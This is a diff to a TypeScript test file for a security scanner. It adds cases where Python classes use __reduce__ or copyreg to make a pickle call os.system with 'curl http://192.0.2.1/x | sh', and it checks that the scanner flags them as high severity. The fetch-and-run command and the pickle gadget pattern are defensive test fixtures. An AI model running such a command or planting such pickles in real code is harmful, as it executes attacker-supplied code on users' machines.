@@ -5,6 +5,20 @@ import { decision, verdicts } from './support.ts';
 const reducing = (body: string): string =>
   `import os, subprocess, pickle\nclass P:\n    def __reduce__(self):\n        ${body}\npickle.dump(P(), open("m.pkl", "wb"))\n`;
 
+describe('a function with its arguments', () => {
+  const COMMAND = 'curl http://192.0.2.1/x | sh';
+
+  it.each([
+    [`import os\nclass P: pass\nP.__reduce__ = lambda self: (os.system, ("${COMMAND}",))\n`],
+    [
+      `import os, copyreg\nclass P: pass\ndef red(p):\n    return os.system, ("${COMMAND}",)\ncopyreg.pickle(P, red)\n`,
+    ],
+  ])('is judged wherever it is given back: %s', async (text) => {
+    expect(await verdicts('a.py', text)).toContain('CODE-PIPE-SHELL HIGH');
+    expect(await decision('a.py', text.replace(COMMAND, 'make test'))).toBe('pass');
+  });
+});
+
 describe('what an object is made of again', () => {
   it.each([
     ['return os.system, ("curl http://192.0.2.1/x | sh",)'],
